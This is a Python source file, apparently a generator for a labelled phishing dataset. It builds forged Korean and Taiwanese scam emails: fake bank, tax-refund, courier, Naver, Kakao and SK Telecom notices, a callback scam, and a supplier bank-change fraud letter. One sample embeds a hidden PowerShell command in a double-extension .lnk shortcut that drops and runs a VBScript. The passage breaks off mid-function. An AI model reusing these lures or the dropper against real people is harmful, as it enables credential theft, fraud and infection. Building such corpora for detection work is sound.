<tr><td style="padding:14px 20px;background:#f6f6f6;font-size:11px;color:#888;">
본 메일은 발신전용으로 회신되지 않습니다.<br>
(주)KB국민은행 서울특별시 영등포구 국제금융로8길 26 | 고객센터 1588-9999</td></tr>
</table></body></html>
"""
    hdr = H(
        f"From: {addr('KB국민은행', 'webmaster@' + dom, 'EUC-KR')}",
        f"To: {rcpt}",
        subj("[KB국민은행] 전자금융 보안강화를 위한 OTP 재인증 안내", "EUC-KR"),
        f"Date: {rfc(sent)}",
        f"Message-ID: {kit_mid(stem, dom)}",
        "X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)",
    )
    src = Src(f"mail.{dom}", "103.214.170.38", f"webmaster@{dom}", dom, "pass", [], dmarc=None)
    body = html_only(html, charset="euc-kr", enc="base64")
    add(stem, "phish", "phishing",
        "KB Kookmin Bank 'OTP re-authentication or transfers are suspended' lure in EUC-KR HTML from kbstar-secure.com, link to obank.kbstar.com.otp-reauth.cc",
        deliver(rcpt, sent + timedelta(seconds=3), src, stem, hdr, body))


def p_shinhan_callback() -> None:
    stem = "b38-phish-shinhan-card-callback"
    rcpt = "seoyeon_lee@hanmail.net"
    sent = T(2024, 10, 14, 3, 24, 51, 9)
    frm = "shinhancard.notice@outlook.kr"
    plain = """[신한카드] 해외결제 승인 안내

고객님의 신한카드(1*2*)로 아래와 같이 해외 결제가 승인되었습니다.

- 승인일시 : 2024/10/14 03:22
- 승인금액 : USD 1,284.00
- 가맹점명 : AMAZON.COM*RT4KZ (미국)
- 결제구분 : 일시불
- 누적금액 : 1,768,230원

본인이 결제하지 않으신 경우, 부정사용 피해 예방을 위해
즉시 신한카드 해외결제 소비자보호센터로 연락하여 주시기 바랍니다.

■ 해외결제 소비자보호센터 : 02-6952-4418 (24시간 운영)

※ 신고 접수 후 결제 취소 및 피해 보상 절차가 진행됩니다.
※ 본 메일은 발신전용입니다.

신한카드
"""
    mid = f"<{tok(stem + 'm', 8)}-{tok(stem + 'm2', 4)}-{tok(stem + 'm3', 4)}-{tok(stem + 'm4', 4)}-{tok(stem + 'm5', 12)}@SEYP216MB{num(stem, 1000, 9999)}.KORP216.PROD.OUTLOOK.COM>"
    hdr = H(
        dkim("outlook.kr", "selector1", "From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck", sent, stem),
        f"Received: from SEYP216MB{num(stem, 1000, 9999)}.KORP216.PROD.OUTLOOK.COM ([fe80::{tok(stem + 'v', 4)}:{tok(stem + 'v2', 4)}:{tok(stem + 'v3', 4)}:{tok(stem + 'v4', 4)}]) by\n"
        f" SEYP216MB{num(stem, 1000, 9999)}.KORP216.PROD.OUTLOOK.COM ([fe80::{tok(stem + 'v', 4)}:{tok(stem + 'v2', 4)}:{tok(stem + 'v3', 4)}:{tok(stem + 'v4', 4)}%6]) with mapi id\n"
        f" 15.20.8048.020; {rfc(sent, 0, pad=False)}",
        f"From: {addr('신한카드', frm)}",
        f"To: {addr('', rcpt)}",
        subj("[신한카드] 해외 승인 안내 - 승인금액 USD 1,284.00"),
        f"Date: {rfc(sent, 0, pad=False)}",
        f"Message-ID: {mid}",
        "Accept-Language: ko-KR, en-US",
        "Content-Language: ko-KR",
        "X-MS-Has-Attach:",
        "X-MS-TNEF-Correlator:",
    )
    src = Src("SEYPR02CU001.outbound.protection.outlook.com", "52.101.156.40", frm, "outlook.kr", "pass",
              [("outlook.kr", "selector1", "pass")], dmarc="pass", policy="NONE",
              rdns="mail-koreacentralazon11012040.outbound.protection.outlook.com")
    body = text(plain, "plain", "base64", "ks_c_5601-1987")
    add(stem, "phish", "phishing",
        "Callback scam: fake Shinhan Card 'overseas approval USD 1,284' notice from a free outlook.kr account; no link, asks the victim to phone a fake 'consumer protection centre' number",
        deliver(rcpt, sent + timedelta(seconds=2), src, stem, hdr, body))


def p_coupang_breach() -> None:
    stem = "b38-phish-coupang-breach-reward"
    rcpt = "jiwoo.park88@naver.com"
    sent = T(2025, 12, 8, 18, 2, 40, 9)
    dom = "coupang-care.com"
    url = f"https://{dom}/reward/claim?token={tok(stem, 24, URLSAFE)}"
    paras = [
        "안녕하세요, 쿠팡입니다.",
        "최근 발생한 고객 개인정보 무단 접근 사고로 고객님께 큰 불편과 심려를 끼쳐드린 점 진심으로 사과드립니다.",
        "쿠팡은 피해 고객님께 사과의 의미로 <b>쿠팡캐시 50,000원</b>을 지급해 드리고 있습니다. "
        "고객님의 계정이 유출 대상에 포함되어 있음을 확인하였으며, 아래 버튼을 통해 본인 확인 후 보상을 신청하실 수 있습니다.",
        "- 신청 기한 : 2025년 12월 15일(월)까지<br>- 본인 확인 : 쿠팡 로그인 및 결제수단(카드) 재인증",
        "※ 유출된 정보로 인한 2차 피해 방지를 위해 결제수단 재등록을 반드시 진행해 주세요.",
    ]
    html = kit_html("쿠팡", "coupang", "#346aff", paras, "보상 신청하기", url,
                    ["쿠팡(주) 서울특별시 송파구 송파대로 570", "본 메일은 발신전용입니다."], lang="ko")
    hdr = H(
        dkim(dom, "default", "from:to:subject:date:message-id:mime-version:content-type", sent, stem),
        f"From: {addr('쿠팡', 'notice@' + dom)}",
        f"To: {rcpt}",
        subj("[쿠팡] 개인정보 유출 관련 피해보상 안내 (쿠팡캐시 50,000원 지급)"),
        f"Date: {rfc(sent)}",
        f"Message-ID: {kit_mid(stem, dom, 'uuid')}",
    )
    src = Src(f"mail.{dom}", "158.247.241.66", f"notice@{dom}", dom, "pass", [(dom, "default", "pass")],
              dmarc="pass")
    body = html_only(html)
    add(stem, "phish", "phishing",
        "Topical lure after the Nov 2025 Coupang data breach: 'compensation 50,000 Coupang Cash' from coupang-care.com asking for Coupang login and card re-registration",
        deliver(rcpt, sent + timedelta(seconds=2), src, stem, hdr, body))


def p_naver_login_fake() -> None:
    stem = "b38-phish-naver-login-alert"
    rcpt = "mh.choi@naver.com"
    sent = T(2025, 9, 3, 2, 17, 5, 9)
    dom = "navercorp-security.com"
    url = "https://nid.naver.com.secure-login.help/user2/help/pwInquiry?lang=ko_KR&m=" + tok(stem, 10, LOWER)
    html = f"""<html><head><meta charset="utf-8"></head>
<body style="margin:0;">
<div style="width:600px;margin:0 auto;font-family:'Nanum Gothic','맑은 고딕',sans-serif;font-size:14px;color:#222;">
<div style="padding:20px 0;border-bottom:2px solid #03c75a;"><span style="color:#03c75a;font-size:22px;font-weight:bold;">NAVER</span></div>
<p style="font-size:18px;font-weight:bold;margin:24px 0 8px;">새로운 기기에서 로그인 되었습니다.</p>
<p>mh.choi 회원님의 아이디로 새로운 기기(환경)에서 로그인되었습니다.<br>본인이 로그인한 것이 아니라면 즉시 비밀번호를 변경해 주세요.</p>
<table style="width:100%;border-collapse:collapse;background:#f8f8f8;margin:16px 0;" cellpadding="8">
<tr><td style="width:110px;color:#888;">일시</td><td>2025.09.03 02:14</td></tr>
<tr><td style="color:#888;">지역</td><td>러시아 (Russia)</td></tr>
<tr><td style="color:#888;">IP 주소</td><td>185.220.101.47</td></tr>
<tr><td style="color:#888;">기기</td><td>Windows PC / Chrome</td></tr>
</table>
<p><a href="{url}" style="display:inline-block;background:#03c75a;color:#fff;padding:12px 30px;text-decoration:none;">본인 아님, 비밀번호 변경하기</a></p>
<p style="font-size:12px;color:#999;">본 메일은 발신전용입니다. © NAVER Corp.</p>
</div></body></html>
"""
    hdr = H(
        dkim(dom, "mail", "from:to:subject:date:message-id", sent, stem),
        f"From: {addr('네이버', 'nid_noreply@' + dom)}",
        f"To: {rcpt}",
        subj("[네이버] 새로운 기기에서 로그인 되었습니다."),
        f"Date: {rfc(sent)}",
        f"Message-ID: {kit_mid(stem, dom)}",
    )
    src = Src(f"mail.{dom}", "80.71.157.14", f"nid_noreply@{dom}", dom, "pass", [(dom, "mail", "pass")], dmarc=None)
    body = html_only(html, enc="quoted-printable")
    add(stem, "phish", "phishing",
        "Fake Naver 'new device login from Russia' alert (Kimsuky-style credential theft against a researcher) from navercorp-security.com, link to nid.naver.com.secure-login.help",
        deliver(rcpt, sent + timedelta(seconds=3), src, stem, hdr, body))


def p_hometax_refund() -> None:
    stem = "b38-phish-hometax-refund"
    rcpt = "dh.yoon@hanbit-precision.co.kr"
    sent = T(2025, 6, 2, 11, 25, 37, 9)
    dom = "nts-refund.kr"
    url = "https://hometax.go.kr.refund-apply.com/websquare/websquare.html?w2xPath=/ui/pp/index.xml&r=" + tok(stem, 8, DIGITS)
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=ks_c_5601-1987"></head>
<body>
<table width="640" cellpadding="0" cellspacing="0" style="font-family:'맑은 고딕',dotum,sans-serif;font-size:13px;color:#333;border:1px solid #d5d5d5;">
<tr><td style="background:#1a3e85;color:#fff;padding:14px 20px;font-size:17px;font-weight:bold;">국세청 홈택스 Hometax</td></tr>
<tr><td style="padding:22px 20px;line-height:1.9;">
<b>윤동현</b> 님, 안녕하십니까. 국세청입니다.<br><br>
2024년 귀속 종합소득세 신고 결과, 아래와 같이 <b>환급금</b>이 발생하였음을 알려드립니다.<br><br>
<table cellpadding="6" style="border-collapse:collapse;" border="1">
<tr><td style="background:#eef2f9;">귀속연도</td><td>2024년</td></tr>
<tr><td style="background:#eef2f9;">환급예정금액</td><td><b style="color:#c00;">427,380원</b></td></tr>
<tr><td style="background:#eef2f9;">신청기한</td><td>2025년 6월 9일</td></tr>
</table><br>
환급금 계좌가 등록되어 있지 않아 지급이 보류되어 있습니다. 아래에서 본인인증 후 환급계좌를 신고하여 주십시오.<br><br>
<a href="{url}" style="background:#1a3e85;color:#fff;padding:10px 30px;text-decoration:none;">환급금 조회 및 계좌신고</a>
</td></tr>
<tr><td style="padding:12px 20px;font-size:11px;color:#888;background:#f5f5f5;">본 메일은 발신전용입니다. 국세상담센터 126</td></tr>
</table></body></html>
"""
    hdr = H(
        f"From: {addr('국세청 홈택스', 'hometax@' + dom, 'ks_c_5601-1987')}",
        f"To: {addr('윤동현', rcpt, 'ks_c_5601-1987')}",
        subj("[국세청] 2024년 귀속 종합소득세 환급금 지급 안내", "ks_c_5601-1987"),
        f"Date: {rfc(sent)}",
        f"Message-ID: {kit_mid(stem, dom, 'date')}",
    )
    src = Src(f"smtp.{dom}", "211.234.118.92", f"hometax@{dom}", dom, "pass", [], dmarc=None)
    body = html_only(html, charset="ks_c_5601-1987", enc="base64")
    add(stem, "phish", "phishing",
        "Korean NTS Hometax 'income-tax refund of 427,380 won waiting, register your account' lure to a company Google Workspace user, from nts-refund.kr, link to hometax.go.kr.refund-apply.com",
        deliver(rcpt, sent + timedelta(seconds=3), src, stem, hdr, body))


def p_cj_logistics() -> None:
    stem = "b38-phish-cj-logistics-address"
    rcpt = "seoyeon_lee@hanmail.net"
    sent = T(2025, 1, 21, 13, 8, 2, 9)
    dom = "cj-delivery.shop"
    url = f"https://cjlogistics.kr-track.shop/p/{tok(stem, 8, LOWER)}"
    plain = f"""[CJ대한통운] 배송 보류 안내

고객님께 발송된 택배가 주소 불명(상세주소 누락)으로 인해
배송이 보류되어 터미널에 보관 중입니다.

■ 운송장번호 : {tok(stem + 'n', 12, DIGITS)}
■ 보관기한 : 2025-01-23 (설 연휴 전 배송을 위해 빠른 확인 바랍니다)

아래 링크에서 주소를 확인/수정해 주시면 재배송이 진행됩니다.
(주소 확인 수수료 500원이 부과될 수 있습니다)

{url}

※ 보관기한 경과 시 발송인에게 반송됩니다.

CJ대한통운 고객센터
"""
    hdr = H(
        f"From: {addr('CJ대한통운', 'cjlogistics@' + dom)}",
        f"To: {rcpt}",
        subj("[CJ대한통운] 고객님의 택배가 주소 불명으로 보관 중입니다"),
        f"Date: {rfc(sent)}",
        f"Message-ID: {kit_mid(stem, dom)}",
    )
    src = Src(f"mail.{dom}", "43.159.51.207", f"cjlogistics@{dom}", dom, "pass", [], dmarc=None)
    body = text(plain, "plain", "base64", "utf-8")
    add(stem, "phish", "phishing",
        "CJ Logistics 'parcel held, address missing, 500 won fee' lure before Lunar New Year, sender cj-delivery.shop, link to cjlogistics.kr-track.shop",
        deliver(rcpt, sent + timedelta(seconds=4), src, stem, hdr, body))


def p_kimsuky_lnk() -> None:
    stem = "b38-phish-kr-advisory-lnk"
    rcpt = "mh.choi@naver.com"
    sent = T(2025, 2, 19, 10, 31, 46, 9)
    frm = "kimth.kinu.research@gmail.com"
    lnk = files.lnk_shortcut(r"C:\Windows\System32\cmd.exe",
                             "/c powershell -windowstyle hidden -c \"$d=[IO.File]::ReadAllBytes($env:TEMP+'\\자문요청서.hwp.lnk');"
                             "$b=$d[0x1A00..($d.Length-1)];[IO.File]::WriteAllBytes($env:PUBLIC+'\\a.vbs',$b);wscript $env:PUBLIC'\\a.vbs'\"")
    zdata = files.zip_archive([("자문요청서.hwp.lnk", lnk), ("사례비 지급 의뢰서.hwp.lnk", lnk)])
    plain = """최민혁 교수님께

안녕하십니까. 통일정책연구원 김태호 선임연구위원입니다.
갑작스러운 연락 양해 부탁드립니다.

저희 연구원에서는 「2025 한반도 정세 전망과 대북정책 과제」 보고서를 준비하고 있으며,
해당 분야에 깊은 식견을 갖고 계신 교수님께 원고 검토 및 자문을 요청드리고자 합니다.

자문 요청서와 사례비 지급 의뢰서를 첨부하오니 검토하시고,
의뢰서 양식에 기재 후 회신 주시면 감사하겠습니다.
(자문료: 원고 검토 1건당 50만원, 세전)

첨부파일의 비밀번호는 없습니다.
바쁘시겠지만 2월 26일(수)까지 회신 부탁드립니다.

감사합니다.

김태호 드림
통일정책연구원 북한연구실 선임연구위원
"""
    html = "<div dir=\"ltr\">" + "<br>".join(plain.rstrip("\n").split("\n")) + "</div>\n"
    mid = gmail_mid(stem)
    hdr = gmail_sender(stem, sent, addr("김태호", frm), rcpt,
                       subj("[자문 요청] 2025 한반도 정세 전망 원고 검토 및 자문료 지급 안내"), mid)
    src = Src("mail-pl1-f178.google.com", "209.85.214.178", frm, "gmail.com", "pass",
              [("gmail.com", "20230601", "pass")], dmarc="pass", policy="NONE")
    body = mixed(f"000000000000{tok(stem + 'mx', 16)}",
                 alt(plain, html, f"000000000000{tok(stem + 'al', 16)}"),
                 att("application/x-zip-compressed", "자문요청서_및_사례비지급의뢰서.zip", zdata))
    add(stem, "phish", "malware",
        "Kimsuky-style spear-phish: fake think-tank researcher on Gmail asks a professor for paid advice; zip holds double-extension .hwp.lnk shortcuts that launch hidden PowerShell",
        deliver(rcpt, sent + timedelta(seconds=2), src, stem, hdr, body))


def p_skt_usim() -> None:
    stem = "b38-phish-skt-usim-swap"
    rcpt = "seoyeon_lee@hanmail.net"
    sent = T(2025, 5, 2, 8, 45, 19, 9)
    dom = "sktelecom-usim.com"
    url = f"https://tworld.{dom}/reserve?ch=mail&k={tok(stem, 10, LOWER)}"
    paras = [
        "안녕하세요. SK텔레콤입니다.",
        "최근 발생한 해킹 공격으로 인한 유심(USIM) 정보 유출과 관련하여 고객님께 깊은 우려와 불편을 드려 진심으로 사과드립니다.",
        "SK텔레콤은 모든 고객님께 <b>유심 무료 교체</b>를 시행하고 있으며, 교체 전까지 복제폰 피해를 막기 위해 "
        "<b>유심보호서비스</b>에 반드시 가입해 주시기 바랍니다.",
        "아래 버튼을 눌러 본인인증(이름, 생년월일, 휴대폰번호, 통신사 인증) 후 유심 교체 예약과 유심보호서비스 가입을 한 번에 진행하실 수 있습니다.",
        "※ 예약하지 않으실 경우 매장 방문 시 장시간 대기가 발생할 수 있습니다.",
    ]
    html = kit_html("SK텔레콤", "SK telecom T world", "#ea002c", paras, "유심 교체 예약하기", url,
                    ["SK텔레콤(주) 서울특별시 중구 을지로 65", "본 메일은 발신전용입니다."], lang="ko")
    hdr = H(
        dkim(dom, "s1", "from:to:subject:date:message-id", sent, stem),
        f"From: {addr('SK텔레콤', 'tworld@' + dom)}",
        f"To: {rcpt}",
        subj("[SK텔레콤] 유심(USIM) 무료 교체 예약 및 유심보호서비스 가입 안내"),
        f"Date: {rfc(sent)}",
        f"Message-ID: {kit_mid(stem, dom)}",
    )
    src = Src(f"mail.{dom}", "141.164.52.118", f"tworld@{dom}", dom, "pass", [(dom, "s1", "pass")], dmarc=None)
    body = html_only(html, enc="quoted-printable")
    add(stem, "phish", "phishing",
        "Topical carrier lure after SK Telecom's April 2025 USIM breach: 'free USIM swap reservation' from sktelecom-usim.com collecting identity data and carrier authentication",
        deliver(rcpt, sent + timedelta(seconds=2), src, stem, hdr, body))


def p_gws_storage() -> None:
    stem = "b38-phish-gws-storage-full"
    rcpt = "js.kang@hanbit-precision.co.kr"
    sent = T(2025, 10, 15, 14, 6, 52, 9)
    dom = "gsuite-admin-alert.com"
    url = f"https://ws-storage-kr.web.app/?u={rcpt}&lang=ko"
    html = f"""<html><head><meta charset="utf-8"></head>
<body style="font-family:Roboto,'Noto Sans KR',Arial,sans-serif;background:#f1f3f4;margin:0;padding:24px;">
<table width="560" align="center" cellpadding="0" cellspacing="0" style="background:#fff;border-radius:8px;">
<tr><td style="padding:24px 32px 0 32px;font-size:20px;color:#5f6368;">Google Workspace</td></tr>
<tr><td style="padding:16px 32px;font-size:14px;color:#202124;line-height:1.7;">
<p style="font-size:18px;">저장용량이 가득 찼습니다</p>
<p><b>{rcpt}</b> 계정의 저장용량(30GB)이 100% 사용되었습니다.</p>
<p>저장용량이 확보되지 않으면 <b>2025년 10월 16일</b>부터 새 이메일을 받을 수 없으며 발신자에게 반송됩니다. Google Drive 파일도 동기화되지 않습니다.</p>
<p>관리자 승인 없이 추가 용량(무료 50GB)을 즉시 적용하려면 계정을 확인하세요.</p>
<p style="margin:24px 0;"><a href="{url}" style="background:#1a73e8;color:#fff;padding:10px 24px;border-radius:4px;text-decoration:none;">계정 확인 및 용량 추가</a></p>
</td></tr>
<tr><td style="padding:16px 32px;font-size:11px;color:#5f6368;">Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA<br>
hanbit-precision.co.kr 도메인의 Google Workspace 계정에 대한 중요한 변경사항을 알려드리기 위해 발송된 필수 서비스 공지입니다.</td></tr>
</table></body></html>
"""
    hdr = H(
        dkim(dom, "google", "from:to:subject:date:message-id:mime-version", sent, stem),
        f"From: {addr('Google Workspace', 'workspace-noreply@' + dom)}",
        f"To: {rcpt}",
        subj(f"[조치 필요] {rcpt} 저장용량 초과 - 수신 메일이 반송됩니다"),
        f"Date: {rfc(sent)}",
        f"Message-ID: {kit_mid(stem, dom)}",
    )
    src = Src(f"mail.{dom}", "194.58.44.203", f"workspace-noreply@{dom}", dom, "pass", [(dom, "google", "pass")],
              dmarc=None)
    body = html_only(html, enc="base64")
    add(stem, "phish", "phishing",
        "Google Workspace 'mailbox storage full, mail will bounce' lure to a Korean company user from gsuite-admin-alert.com, credential page on Firebase hosting (ws-storage-kr.web.app)",
        deliver(rcpt, sent + timedelta(seconds=3), src, stem, hdr, body))


def p_kr_vendor_bank() -> None:
    stem = "b38-phish-kr-vendor-bank-change"
    rcpt = "finance@hanbit-precision.co.kr"
    sent = T(2025, 4, 8, 16, 52, 14, 9)
    dom = "daesung-rnetal.co.kr"
    plain = """재무팀 담당자님, 안녕하세요.
대성금속 관리팀 정미경입니다.

3월 발주분(PO-HB-2503-017) 세금계산서는 어제 발행 완료되었습니다.

다만, 당사 주거래 계좌가 내부 회계감사 진행으로 인해 4월 한 달간 입출금이 제한되어
이번 3월분 대금(48,675,000원, VAT 포함)은 아래 임시 계좌로 입금 부탁드리겠습니다.

  은행 : 하나은행
  계좌번호 : 391-910248-37607
  예금주 : 정미경(대성금속)

감사 종료 후 기존 계좌로 다시 안내드리겠습니다.
이번 주 금요일(4/11)까지 입금 가능하신지 회신 부탁드립니다.
현재 외근 중이라 통화가 어려우니 메일로 회신 주시면 감사하겠습니다.

감사합니다.

정미경 대리
대성금속(주) 관리팀
경기도 시흥시 공단1대로 204 (정왕동)
Tel. 031-498-7715 / Fax. 031-498-7719

-----Original Message-----
From: "재무팀" <finance@hanbit-precision.co.kr>
To: "정미경" <mk.jung@daesung-metal.co.kr>
Sent: 2025-04-03 (목) 10:14:22
Subject: 3월 발주분 세금계산서 발행 건

정미경 대리님, 안녕하세요. 한빛정밀 재무팀입니다.
3월 발주분(PO-HB-2503-017) 세금계산서 발행 부탁드립니다.
대금은 4월 둘째 주에 지급 예정입니다.
감사합니다.
"""
    html = ("<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=ks_c_5601-1987\"></head><body>"
            "<div style=\"font-family:'맑은 고딕';font-size:10pt;\">" + plain.replace("\n", "<br>\n") + "</div></body></html>\n")
    hdr = H(
        dkim(dom, "default", "from:to:subject:date:message-id:in-reply-to:references", sent, stem),
        f"From: {addr('정미경', 'mk.jung@' + dom, 'ks_c_5601-1987')}",
        f"To: {addr('재무팀', rcpt, 'ks_c_5601-1987')}",
        subj("RE: 3월 발주분 세금계산서 발행 건", "ks_c_5601-1987"),
        f"Date: {rfc(sent)}",
        f"Message-ID: {desktop_mid(stem, dom)}",
        f"In-Reply-To: {gmail_mid(stem + 'ir')}",
        f"References: {gmail_mid(stem + 'ir')}",
        "X-Mailer: Microsoft Outlook 16.0",
        "Thread-Index: " + base64.b64encode(b"\x01" + blob(stem + "ti", 21)).decode(),
        "Content-Language: ko",
    )
    src = Src(f"mail.{dom}", "27.102.66.201", f"mk.jung@{dom}", dom, "pass", [(dom, "default", "pass")], dmarc=None)
    body = alt(plain, html, f"----=_NextPart_000_{tok(stem + 'b', 4, UHEX)}_01DBA8{tok(stem + 'b2', 2, UHEX)}.{tok(stem + 'b3', 8, UHEX)}",
               charset="ks_c_5601-1987", penc="base64", henc="base64")
    add(stem, "phish", "phishing",
        "Supplier bank-change BEC: look-alike daesung-rnetal.co.kr ('rn' for 'm') continues a real tax-invoice thread and asks for 48.7M won to a temporary account in an employee's own name, 'out of office, reply by mail'",
        deliver(rcpt, sent + timedelta(seconds=3), src, stem, hdr, body))


def p_kakao_account() -> None:
    stem = "b38-phish-kakao-account-lock"
    rcpt = "mh.choi@naver.com"
    sent = T(2024, 8, 27, 21, 13, 9, 9)
    dom = "kakao-safe-check.top"
    url = f"https://accounts.kakao.com.{dom}/login?continue=https%3A%2F%2Fmail.daum.net&k={tok(stem, 8, LOWER)}"
    plain = f"""[카카오] 카카오계정 보호조치 안내

안녕하세요, 카카오입니다.

고객님의 카카오계정(mh.c***@naver.com)에서 해외 IP를 통한
비정상적인 로그인 시도가 여러 차례 감지되어 계정 보호조치가 적용되었습니다.

보호조치 해제 전까지 카카오톡, 카카오페이, Daum 메일 등
카카오 서비스 이용이 제한됩니다.

아래 링크에서 본인 확인 후 보호조치를 해제해 주세요.
{url}

- 감지 일시 : 2024.08.27 20:58
- 접속 국가 : 베트남

본인 확인이 24시간 이내에 완료되지 않으면 계정이 영구 정지될 수 있습니다.

(주)카카오
"""
    hdr = H(
        f"From: {addr('Kakao', 'noreply@' + dom)}",
        f"To: {rcpt}",
        subj("[카카오] 카카오계정 보호조치 안내 - 비정상 로그인 시도 감지"),
        f"Date: {rfc(sent)}",
        f"Message-ID: {kit_mid(stem, dom, 'date')}",
    )
    src = Src(f"mail.{dom}", "103.149.27.70", f"noreply@{dom}", dom, "pass", [], dmarc=None)
    body = text(plain, "plain", "base64", "utf-8")
    add(stem, "phish", "phishing",
        "Kakao 'account protection applied after foreign login attempts' lure, plain text from kakao-safe-check.top, link to accounts.kakao.com.kakao-safe-check.top",
        deliver(rcpt, sent + timedelta(seconds=3), src, stem, hdr, body))


KR_ATTACKS = [p_kb_bank, p_shinhan_callback, p_coupang_breach, p_naver_login_fake, p_hometax_refund, p_cj_logistics,
              p_kimsuky_lnk, p_skt_usim, p_gws_storage, p_kr_vendor_bank, p_kakao_account]

# ---------------------------------------------------------------------------
# ATTACKS — Taiwan
# ---------------------------------------------------------------------------

TW_FOOT = "本郵件由系統自動發送，請勿直接回覆。"


def p_ctbc_big5() -> None:
    stem = "b38-phish-ctbc-ebank-suspend"
    rcpt = "chen.yating0913@gmail.com"
    sent = T(2025, 3, 19, 9, 12, 44, 8)
    dom = "ctbcbank-notice.com"
    url = "https://www.ctbcbank.com.tw-verify.cc/twrbo/zh_tw/index/h_locate_index.html?v=" + tok(stem, 10, LOWER)
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=big5"></head>
<body>
<table width="620" align="center" cellpadding="0" cellspacing="0" style="font-family:'微軟正黑體','新細明體',sans-serif;font-size:14px;color:#333;">
<tr><td style="background:#00856a;color:#fff;padding:14px 20px;font-size:18px;font-weight:bold;">中國信託商業銀行 CTBC Bank</td></tr>
<tr><td style="padding:24px 20px;line-height:1.9;">
親愛的 陳雅婷 客戶您好：<br><br>
本行系統偵測到您的網路銀行帳戶於 2025/03/19 02:47 有異常登入紀錄（登入地點：越南），
為保障您的帳戶安全，已<b style="color:#c00;">暫停您的網路銀行轉帳及約定帳戶功能</b>。<br><br>
請您於 <b>24小時內</b> 點擊下方按鈕完成身分驗證，以恢復帳戶正常使用。
逾期未完成驗證者，將依規定凍結網路銀行服務，需親臨分行辦理解鎖。<br><br>
<a href="{url}" style="display:inline-block;background:#00856a;color:#fff;padding:12px 40px;text-decoration:none;">立即驗證身分</a>
</td></tr>
<tr><td style="padding:14px 20px;background:#f2f2f2;font-size:12px;color:#888;">
{TW_FOOT}<br>中國信託商業銀行 24小時客服專線：(02)2745-8080</td></tr>
</table></body></html>
"""
    hdr = H(
        f"From: {addr('中國信託銀行', 'service@' + dom, 'big5')}",
        f"To: {rcpt}",
        subj("【中國信託】網路銀行帳戶異常登入，已暫停部分交易功能", "big5"),
        f"Date: {rfc(sent)}",
        f"Message-ID: {kit_mid(stem, dom)}",
        "X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)",
    )
    src = Src(f"mail.{dom}", "45.144.137.92", f"service@{dom}", dom, "pass", [], dmarc=None)
    body = html_only(html, charset="big5", enc="base64")
    add(stem, "phish", "phishing",
        "CTBC Bank 'abnormal login from Vietnam, online banking suspended, verify in 24h' lure in Big5 HTML from ctbcbank-notice.com, link to www.ctbcbank.com.tw-verify.cc",
        deliver(rcpt, sent + timedelta(seconds=3), src, stem, hdr, body))


def p_cathay_points() -> None:
    stem = "b38-phish-cathay-points-expiry"
    rcpt = "wu.chienhung@ms35.hinet.net"
    sent = T(2024, 12, 16, 19, 44, 26, 8)
    dom = "cathay-points.com"
    url = f"https://cathaybk.com.tw-points.top/redeem/?m={tok(stem, 10, LOWER)}"
    paras = [
        "親愛的國泰世華卡友 您好：",
        "您的信用卡紅利點數 <b>12,680 點</b> 將於 <b>2024年12月31日</b> 到期，逾期將自動失效且無法補回。",
        "即日起至12月31日止，登入紅利兌換專區即可兌換 Dyson 吹風機、SOGO 禮券、全聯禮券等多項好禮，並享免運費宅配到府。",
        "※ 兌換時需驗證持卡人身分（卡號、有效期限、背面末三碼），以確保為本人操作。",
    ]
    html = kit_html("國泰世華銀行", "國泰世華銀行 Cathay United Bank", "#00a19b", paras, "立即兌換好禮", url,
                    ["國泰世華商業銀行", TW_FOOT], lang="zh-Hant-TW")
    hdr = H(
        dkim(dom, "default", "from:to:subject:date:message-id", sent, stem),
        f"From: {addr('國泰世華銀行', 'cathaybk@' + dom)}",
        f"To: {rcpt}",
        subj("國泰世華信用卡紅利點數 12,680 點將於本月底到期，立即兌換好禮"),
        f"Date: {rfc(sent)}",
        f"Message-ID: {kit_mid(stem, dom, 'uuid')}",
    )
    src = Src(f"mail.{dom}", "156.244.8.35", f"cathaybk@{dom}", dom, "pass", [(dom, "default", "pass")], dmarc=None)
    body = html_only(html, enc="base64")
    add(stem, "phish", "phishing",
        "Cathay United Bank 'credit-card reward points expiring, redeem gifts' lure from cathay-points.com; redemption page collects card number, expiry and CVV",
        deliver(rcpt, sent + timedelta(seconds=3), src, stem, hdr, body))


def p_einvoice_prize() -> None:
    stem = "b38-phish-einvoice-prize"
    rcpt = "lin.chihwei.tw@gmail.com"
    sent = T(2025, 1, 27, 10, 3, 11, 8)
    dom = "einvoice-gov.com"
    url = f"https://einvoice.nat.gov.tw.prize-claim.com/APCONSUMER/BTC601W/?id={tok(stem, 10, DIGITS)}"
    html = f"""<html><head><meta charset="utf-8"></head>
<body style="font-family:'Microsoft JhengHei',sans-serif;color:#333;">
<div style="width:620px;margin:0 auto;border:1px solid #ccc;">
<div style="background:#2d6cb5;color:#fff;padding:14px 18px;font-size:17px;">財政部電子發票整合服務平台</div>
<div style="padding:20px 18px;font-size:14px;line-height:1.9;">
<p>親愛的會員您好：</p>
<p>恭喜您！您的雲端發票於 <b>113年11-12月期</b> 統一發票開獎中獎，中獎資訊如下：</p>
<table border="1" cellpadding="6" style="border-collapse:collapse;">
<tr><td>發票號碼</td><td>RX-{tok(stem + 'inv', 8, DIGITS)}</td></tr>
<tr><td>中獎獎別</td><td>六獎（雲端發票專屬獎）</td></tr>
<tr><td>中獎金額</td><td>新臺幣 2,000 元</td></tr>
</table>
<p>由於您尚未設定領獎帳戶，請於 <b>114年2月5日</b> 前登入下方連結完成領獎資料設定（需輸入金融卡或信用卡資料以驗證身分），逾期視同放棄領獎。</p>
<p><a href="{url}" style="background:#e67e22;color:#fff;padding:10px 30px;text-decoration:none;">立即領獎</a></p>
<p style="font-size:12px;color:#888;">{TW_FOOT}<br>財政部財政資訊中心</p>
</div></div></body></html>
"""
    hdr = H(
        f"From: {addr('財政部電子發票整合服務平台', 'service@' + dom)}",
        f"To: {rcpt}",
        subj("【財政部】113年11-12月期統一發票中獎通知（雲端發票）"),
        f"Date: {rfc(sent)}",
        f"Message-ID: {kit_mid(stem, dom)}",
    )
    src = Src(f"smtp.{dom}", "103.43.18.251", f"service@{dom}", dom, "pass", [], dmarc=None)
    body = html_only(html, enc="quoted-printable")
    add(stem, "phish", "phishing",
